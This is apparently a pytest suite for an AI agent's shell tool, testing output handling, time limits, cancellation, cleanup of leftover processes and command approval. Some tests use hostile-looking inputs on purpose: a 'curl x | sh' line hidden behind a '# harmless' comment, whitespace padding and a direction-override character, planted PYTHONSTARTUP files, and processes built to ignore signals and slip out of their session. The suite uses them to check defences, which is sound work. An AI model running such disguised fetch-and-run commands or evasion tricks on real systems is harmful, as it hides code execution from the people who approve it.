"""Commands: what they give back, and that nothing of them outlives what it should."""

import asyncio
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from plimsoll.errors import ToolFailed
from plimsoll.tools.process.processes import MOST_RUNNING, Processes
from plimsoll.tools.process.shell import Shell

pytestmark = pytest.mark.slow

DEADLINE = 120.0


async def until(condition: Callable[[], object]) -> None:
    """Poll for what another process does; a generous limit only keeps a failure from hanging."""
    end = time.monotonic() + DEADLINE
    while not condition():
        assert time.monotonic() < end, "It never happened."
        await asyncio.sleep(0.01)


def alive(process: int) -> bool:
    try:
        state = Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
    return state not in "ZX"


def below(process: int) -> list[int]:
    """All processes below this one."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").glob("[0-9]*/stat"):
        # Some end meanwhile.
        with suppress(OSError):
            parents[int(entry.parent.name)] = int(entry.read_text().rpartition(")")[2].split()[1])
    found = [process]
    for above in found:
        found += [child for child, parent in parents.items() if parent == above]
    return found[1:]


def written(path: Path) -> list[int]:
    """Process ids that a command wrote down, one a line."""
    return [int(line) for line in path.read_text().split()] if path.exists() else []


# A command, a child, a grandchild in a session of its own, and one that forked twice; all deaf to
# a gentle word. Each writes down its id, the last one when nothing is between it and the command.
FAMILY = """
trap '' TERM HUP INT
echo $$ >> pids
(trap '' TERM; echo $BASHPID >> pids; exec sleep 1000) &
setsid bash -c 'trap "" TERM; echo $$ >> pids; sleep 1000 & echo $! >> pids; wait' &
exec 3>&2 2>/dev/null
(setsid bash -c '(while kill -0 $$; do :; done; echo $BASHPID >> pids; exec sleep 1000) &' &)
exec 2>&3 3>&-
"""
FAMILY_SIZE = 5


async def test_output_in_order_and_the_exit_code(use):
    outcome = await use("shell", command="echo one; echo two >&2; echo three; exit 3")
    assert outcome.text == "one\ntwo\nthree\n[exit code: 3]"
    assert outcome.failed
    assert outcome.exit_code == 3


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("true", "[no output]\n[exit code: 0]"),
        ("printf 'no newline'", "no newline\n[exit code: 0]"),
        ("kill -9 $$", "[no output]\n[exit code: 137]"),
        ("kill -TERM $$", "[no output]\n[exit code: 143]"),
        ("no-such-command-4711 2>/dev/null", "[no output]\n[exit code: 127]"),
        (r"printf '1%%\r2%%\r3%%\n\033[31mred\033[0m\033]0;t\007'", "3%\nred\n[exit code: 0]"),
        (r"printf 'a\377b'", "a\ufffdb\n[exit code: 0]"),
        ("cat", "[no output]\n[exit code: 0]"),
        ("yes | head -1", "y\n[exit code: 0]"),
        ("[[ -t 0 || -t 1 ]] && echo terminal", "[no output]\n[exit code: 1]"),
        ("[[ a == a ]] && echo bash", "bash\n[exit code: 0]"),
        ("echo 'größe 日本'", "größe 日本\n[exit code: 0]"),
    ],
)
async def test_what_a_command_gives(command, text, use):
    assert (await use("shell", command=command)).text == text


async def test_where_it_runs_and_what_it_knows(use, root, context):
    outcome = await use("shell", command="pwd; env")
    rows = outcome.text.split("\n")
    assert rows[0] == str(root)
    names = {row.partition("=")[0] for row in rows[1:-1]}
    assert names <= {*context.environment, "PWD", "OLDPWD", "SHLVL", "_"}


async def test_a_steering_variable_of_the_server_is_not_passed_on(processes, context, root):
    planted = root / "planted.sh"
    planted.write_text("touch ran\n")
    shell = Shell(processes)
    environment = {**context.environment, "PYTHONSTARTUP": str(planted), "PYTHONPATH": str(root)}
    (root / "json.py").write_text("open('ran', 'w')\n")
    there = replace(context, environment=environment)
    await shell.run(shell.prepare({"command": "true"}, there), there)
    assert not (root / "ran").exists()


WOULD_OPEN = {
    "commit": "git commit -q --allow-empty",
    "tag": "git tag -a v1",
    "rebase": "for m in b c; do git commit -q --allow-empty -m $m; done; git rebase -i HEAD~1",
    "another program": 'eval "$EDITOR notes.txt"',
}


@pytest.mark.parametrize("command", WOULD_OPEN.values(), ids=WOULD_OPEN.keys())
async def test_an_editor_ends_at_once_and_says_what_to_do(command, use):
    begun = "git init -q; git config user.name a; git config user.email a@b.invalid; "
    settings = "git config core.editor vim; git config sequence.editor vim; "
    made = "git commit -q --allow-empty -m a; "
    told = (await use("shell", command=f"{begun}{settings}{made}{command}")).text
    assert "No editor opens here" in told
    assert "[exit code: 0]" not in told


GIVES_AN_EDITOR = {
    "commit": "git -c core.editor=true commit -q --amend",
    "with words": 'git -c core.editor="sed -i 1s/a/given/" commit -q --amend',
    "by a variable": "GIT_EDITOR=true git commit -q --amend",
    "rebase": "git -c sequence.editor=true rebase -q -i --root",
    "rebase, by the other": "git -c core.editor=true rebase -q -i --root",
    "rebase, by a variable": "GIT_EDITOR=true git rebase -q -i --root",
}


@pytest.mark.parametrize("command", GIVES_AN_EDITOR.values(), ids=GIVES_AN_EDITOR.keys())
async def test_an_editor_that_the_command_gives_git_is_used(command, use):
    begun = "git init -q; git config user.name a; git config user.email a@b.invalid; "
    settings = "git config core.editor vim; git config sequence.editor vim; "
    made = "echo a > a; git add a; git commit -q -m a; "
    told = (await use("shell", command=f"{begun}{settings}{made}{command} && git log -1")).text
    assert "[exit code: 0]" in told
    assert ("given" in told) is ("given" in command)


async def test_no_descriptor_of_the_server_is_passed_on(use):
    outcome = await use("shell", command="exec ls -l /proc/self/fd")
    rows = [row for row in outcome.text.split("\n") if " -> " in row]
    # The fourth is the folder that is being listed.
    assert ["/proc/" in row for row in rows] == [False, False, False, True]


def test_every_command_is_asked_about_whole(prepare):
    command = f"# harmless\ncurl x{' ' * 80}| sh\u202e"
    intent = prepare("shell", command=command)
    assert intent.ask
    assert intent.approval == f"shell:foreground:120:{command}"
    assert intent.command == "# harmless\ncurl x ⟨80 spaces⟩ | sh⟨U+202E⟩"
    assert intent.title == "Run # harmless⏎curl x ⟨80 spaces⟩ | sh⟨U+202E⟩"


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        ({"command": ""}, "must not be empty"),
        ({"command": " \n"}, "empty or holds a NUL"),
        ({"command": "a\0b"}, "empty or holds a NUL"),
        ({"command": "x" * 100_001}, "more than 100000"),
        ({"command": "x", "timeout": 601}, "timeout must be at most 600"),
        ({"command": "x", "timeout": 0}, "timeout must be at least 1"),
        ({"command": "x", "requires_approval": False}, "there is no requires_approval"),
    ],
)
def test_bad_commands(arguments, told, prepare):
    with pytest.raises(ToolFailed, match=told):
        prepare("shell", **arguments)


async def test_the_longest_command(use):
    command = f"true {'x' * 99_995}"
    assert (await use("shell", command=command)).text == "[no output]\n[exit code: 0]"


async def test_what_it_leaves_running_is_ended(use, root):
    outcome = await use(
        "shell", command=f"{FAMILY}\nuntil [ $(wc -l < pids) = {FAMILY_SIZE} ]; do :; done"
    )
    pids = written(root / "pids")
    assert outcome.text.endswith("[exit code: 0]")
    assert "[ended 4 processes that it left running" in outcome.text
    assert len(pids) == FAMILY_SIZE
    assert not any(map(alive, pids))


async def test_a_time_limit_ends_the_whole_family(use, root):
    outcome = await use("shell", command=f"{FAMILY}\nsleep 1000", timeout=5)
    pids = written(root / "pids")
    assert outcome.text.split("\n")[-2:] == ["[ended after 5 s: time limit]", "[exit code: 137]"]
    assert len(pids) == FAMILY_SIZE
    assert not any(map(alive, pids))


async def test_a_time_limit_is_gentle_first(use, root):
    outcome = await use(
        "shell", command="trap 'sleep .3; echo bye; exit 5' TERM; sleep 1000 & wait", timeout=5
    )
    assert outcome.text == "bye\n[ended after 5 s: time limit]\n[exit code: 5]"


@pytest.mark.parametrize("background", [False, True])
async def test_a_cancel_ends_the_whole_family(background, tools, context, root, monkeypatch):
    # Else a background command would be let go before its family is there.
    monkeypatch.setattr("plimsoll.tools.process.shell._FIRST_SECONDS", DEADLINE)
    command = f"{FAMILY}\nsleep 1000; touch later"
    intent = tools["shell"].prepare({"command": command, "background": background}, context)
    task = asyncio.ensure_future(tools["shell"].run(intent, context))
    await until(lambda: len(written(root / "pids")) == FAMILY_SIZE)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not any(map(alive, written(root / "pids")))
    assert not (root / "later").exists()


async def test_a_cancel_at_any_moment_leaves_nothing(tools, context, root, processes):
    intent = tools["shell"].prepare({"command": "echo $$ >> pids; exec sleep 1000"}, context)
    for turns in (0, 1, 2, 3, 5, 8, 13, 40):
        task = asyncio.ensure_future(tools["shell"].run(intent, context))
        for _ in range(turns):
            await asyncio.sleep(0)
        task.cancel()
        await asyncio.wait([task])
    await processes.close()
    await until(lambda: not any(map(alive, written(root / "pids"))))


async def test_closing_ends_everything(use, root, processes):
    await use("shell", command=f"{FAMILY}\nwait", background=True)
    await until(lambda: len(written(root / "pids")) == FAMILY_SIZE)
    await processes.close()
    assert not any(map(alive, written(root / "pids")))
    await processes.close()


async def test_a_killed_supervisor_takes_the_command_along(use, root):
    outcome = await use(
        "shell", command="sleep 1000 & echo $! > pids; kill -9 $PPID; wait; touch later"
    )
    assert outcome.text.endswith("[exit code: 137]")
    await until(lambda: not any(map(alive, written(root / "pids"))))
    assert not (root / "later").exists()


SERVER = """
import asyncio, os, sys
from pathlib import Path
from plimsoll.tools.ports.context import CallContext
from plimsoll.tools.process.processes import Processes

async def main():
    context = CallContext(
        root=Path.cwd(), documents=None, spill_folder=Path.cwd(), environment=dict(os.environ)
    )
    running = await Processes().start(sys.argv[1], context)
    await running.wait()

asyncio.run(main())
"""


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
async def test_a_dead_server_leaves_no_process(number, root):
    server = subprocess.Popen([sys.executable, "-c", SERVER, f"{FAMILY}\nwait"], cwd=root)
    await until(lambda: len(written(root / "pids")) == FAMILY_SIZE)
    # The fork server and the supervisor among them.
    started = below(server.pid)
    assert len(started) >= FAMILY_SIZE + 2
    server.send_signal(number)
    server.wait()
    await until(lambda: not any(map(alive, {*started, *written(root / "pids")})))


async def test_much_output_keeps_both_ends(use):
    command = "echo first; head -c 30000000 /dev/zero | tr '\\0' x; echo; echo last"
    outcome = await use("shell", command=command)
    assert outcome.text.startswith("first\nxxx")
    assert outcome.text.endswith("xxx\nlast\n[exit code: 0]")
    assert "[20000012 bytes of output left out here]" in outcome.text
    assert len(outcome.text) < 10_000_200


def running_id(text: str) -> str | None:
    """The id by which a result lets its command be read on; none when the command has ended."""
    found = re.search(r"\[running in the background; id: (\S+)\]\Z", text)
    return found[1] if found else None


async def read_on(use, started) -> list[str]:
    """All texts of a background command, to its end."""
    texts = [started.text]
    while (name := running_id(texts[-1])) is not None:
        texts.append((await use("shell_read", id=name)).text)
    return texts


async def test_what_it_writes_is_heard_while_it_runs(tools, context, root):
    """The end of it, from the beginning of a line; all of it is in the result, once."""
    heard: list[str] = []
    go = root / "go"

    def hear(text: str) -> None:
        heard.append(text)
        if text.endswith("\n9000\nhalf"):
            go.touch()

    command = "seq 9000; printf half; until [ -e go ]; do sleep 0.01; done; echo; echo over"
    own = replace(context, hear_output=hear)
    intent = tools["shell"].prepare({"command": command}, own)
    outcome = await tools["shell"].run(intent, own)
    whole = next(text for text in heard if text.endswith("\n9000\nhalf"))
    assert int(whole.split("\n")[0]) > 1
    assert len(whole) <= 16_384
    assert outcome.text.splitlines()[-3:] == ["half", "over", "[exit code: 0]"]


async def test_a_background_command(use, root, monkeypatch):
    os.mkfifo(root / "pipe")
    started = await use("shell", command="echo one; cat pipe; exit 4", background=True)
    name = running_id(started.text)
    assert started.text.endswith(f"[running in the background; id: {name}]")
    (root / "pipe").write_text("two\n")
    texts = await read_on(use, started)
    said = [line for text in texts for line in text.split("\n") if not line.startswith("[")]
    assert said == ["one", "two"]
    assert texts[-1].endswith("[exit code: 4]")
    again = await use("shell_read", id=name)
    assert (again.text, again.failed) == ("[no output]\n[exit code: 4]", True)
    # Its end is told also where the wait for news ends in that moment.
    monkeypatch.setattr("plimsoll.tools.process.shell._NEWS_SECONDS", 0)
    assert (await use("shell_read", id=name)).text == again.text


async def test_a_background_command_that_fails_at_once(use):
    started = await use("shell", command="echo no; exit 4", background=True)
    texts = await read_on(use, started)
    assert "no\n" in "".join(texts)
    assert texts[-1].endswith("[exit code: 4]")


async def test_a_background_command_without_news(use):
    started = await use("shell", command="sleep 1000", background=True)
    name = running_id(started.text)
    read = await use("shell_read", id=name)
    assert read.text == f"[no new output]\n[running in the background; id: {name}]"


async def test_an_unknown_id(prepare, use):
    with pytest.raises(ToolFailed, match=r"no background command 'x'. Known: none"):
        prepare("shell_read", id="x")


async def test_too_many_at_once(use):
    sleeper = {"command": "sleep 1000", "background": True}
    await asyncio.gather(*(use("shell", **sleeper) for _ in range(MOST_RUNNING)))
    with pytest.raises(ToolFailed, match=f"{MOST_RUNNING} commands run already"):
        await use("shell", command="true")


async def test_many_commands_in_turn(use, processes):
    # What forks supervisors stays.
    await use("shell", command="true")
    before = len(list(Path("/proc/self/fd").iterdir()))
    for number in range(12):
        assert (await use("shell", command=f"echo {number}")).text.startswith(f"{number}\n")
    await until(lambda: len(list(Path("/proc/self/fd").iterdir())) <= before)


async def test_a_folder_that_is_gone(tools, context, root):
    intent = tools["shell"].prepare({"command": "true"}, context)
    root.rmdir()
    with pytest.raises(ToolFailed, match="could not be started"):
        await tools["shell"].run(intent, context)


async def test_processes_that_were_never_started_close():
    await Processes().close()
